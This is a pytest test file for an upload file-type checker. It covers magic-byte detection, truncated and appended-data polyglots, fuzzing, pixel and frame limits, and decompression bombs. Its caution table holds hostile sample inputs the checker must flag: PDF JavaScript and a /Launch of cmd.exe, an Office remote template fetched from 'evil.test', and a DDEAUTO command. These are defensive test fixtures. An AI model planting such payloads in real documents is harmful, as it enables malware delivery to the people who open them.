"""What a file is told to be, by all of its bytes."""

import random

import pytest

from security.kinds import ACTIVE, KINDS, LOCKED, BadFile, look_at
from tests import files
from tests.files import GOOD, archive, gif, jpeg, office, pdf, png, stream

NAMES = [*GOOD]


def taken_as(kind: str, content: bytes) -> bool:
    """Two bytes of a picture may be a Chinese character: under its own name it would not be taken."""
    try:
        return look_at(content).kind.key == kind
    except BadFile:
        return False


@pytest.mark.parametrize("ending", NAMES)
def test_a_file_of_each_kind_is_taken(ending):
    content, kind = GOOD[ending]
    looked = look_at(content)
    assert (looked.kind.key, looked.caution) == (kind, "")
    assert ending in looked.kind.endings


def test_every_kind_is_tried():
    assert {kind for _content, kind in GOOD.values()} == {*KINDS}


@pytest.mark.parametrize("ending", [name for name in NAMES if name not in {"txt", "csv", "mp3", "amr"}])
def test_a_file_that_was_cut_off_is_none(ending):
    """T13. Text may end anywhere, and sound after each frame: that all of it arrived is held by the door."""
    content = GOOD[ending][0].rstrip()
    for length in range(1, len(content)):
        assert not taken_as(GOOD[ending][1], content[:length]), length


@pytest.mark.parametrize("ending", [name for name in NAMES if name not in {"txt", "csv"}])
@pytest.mark.parametrize("behind", [archive({"a": "b"}), b"<script>alert(1)</script>", pdf(), b"MZ\x90\0" + bytes(60)])
def test_nothing_stands_behind_the_end(ending, behind):
    """T12: libraries call a picture with an archive behind it a picture. A PDF that was added to is one."""
    assert ending == "pdf" and behind == pdf() or not taken_as(GOOD[ending][1], GOOD[ending][0] + behind)


@pytest.mark.parametrize("ending", NAMES)
def test_whatever_is_spoiled_is_refused_or_taken_and_nothing_else(ending):
    """No byte makes a reader run away: 400 changed copies of each kind."""
    chance, content = random.Random(ending), GOOD[ending][0]
    for _try in range(400):
        spoiled = bytearray(content)
        for _byte in range(chance.randint(1, 4)):
            spoiled[chance.randrange(len(spoiled))] = chance.choice([0, 1, 0x7F, 0x80, 0xFF, chance.randrange(256)])
        try:
            look_at(bytes(spoiled[: chance.randint(1, len(spoiled))] if chance.random() < 0.3 else spoiled))
        except BadFile as error:
            assert error.sentence


CAUTIONS = {
    "a script of a PDF": (pdf(b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"), ACTIVE),
    "its name written as numbers": (pdf(b"<< /S /J#61vaScript >>"), ACTIVE),
    "packed in a stream of objects": (pdf(stream(b"1 0 << /S /JavaScript >>", b"/Type /ObjStm")), ACTIVE),
    "an embedded file": (pdf(b"<< /Names << /EmbeddedFiles 2 0 R >> >>"), ACTIVE),
    "a program that is started": (pdf(b"<< /S /Launch /F (cmd.exe) >>"), ACTIVE),
    "where it is opened at": (pdf(b"<< /OpenAction [3 0 R /Fit] >>"), ""),
    "a name in the text of a page": (pdf(stream(b"(see /JavaScript)")), ""),
    "a password": (pdf(b"<< /Encrypt 4 0 R >>"), LOCKED),
    "a template from elsewhere": (
        office(
            parts={
                "word/_rels/settings.xml.rels": '<Relationships><Relationship Type="http://x/relationships/'
                'attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/></Relationships>'
            }
        ),
        ACTIVE,
    ),
    "a link that somebody clicks": (
        office(
            parts={
                "word/_rels/document.xml.rels": '<Relationships><Relationship Type="http://x/relationships/hyperlink" '
                'Target="https://example.com" TargetMode="External"/></Relationships>'
            }
        ),
        "",
    ),
    "DDE": (office(parts={"word/document.xml": "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"}), ACTIVE),
    "an embedded object": (office(parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), ACTIVE),
}


@pytest.mark.parametrize("what", CAUTIONS)
def test_what_acts_is_noticed(what):
    content, caution = CAUTIONS[what]
    assert look_at(content).caution == caution


def test_what_cameras_write_behind_a_picture_is_theirs():
    """A second picture, a film, or the notes of the maker."""
    for behind in (jpeg(), files.film(), b"anything SEFT", bytes(100)):
        assert look_at(jpeg() + behind).kind.key == "jpeg"
    with pytest.raises(BadFile):
        look_at(jpeg() + archive({"a": "b"}) + b"SEFT")


def test_a_picture_is_measured_by_its_header():
    """T14, T15: before anybody decodes it."""
    assert look_at(png(5_000, 10_000)).kind.key == "png"
    for content in (png(10_000, 10_000), png(50_000, 50_000), jpeg(60_000, 60_000), files.heic(10_000, 10_000)):
        with pytest.raises(BadFile, match="pixels"):
            look_at(content)
    for content in (gif(201), png(more=files.chunk(b"acTL", (201).to_bytes(4, "big") + bytes(4)))):
        with pytest.raises(BadFile, match="frames"):
            look_at(content)
    assert look_at(gif(200)).kind.key == "gif"


def test_a_pdf_that_unpacks_to_far_more_is_refused():
    """T19: a tenth of a megabyte each that holds a hundred."""
    packed = stream(bytes(100 * 1024 * 1024))
    assert look_at(pdf(packed, packed)).kind.key == "pdf"
    with pytest.raises(BadFile, match="bomb"):
        look_at(pdf(packed, packed, packed))
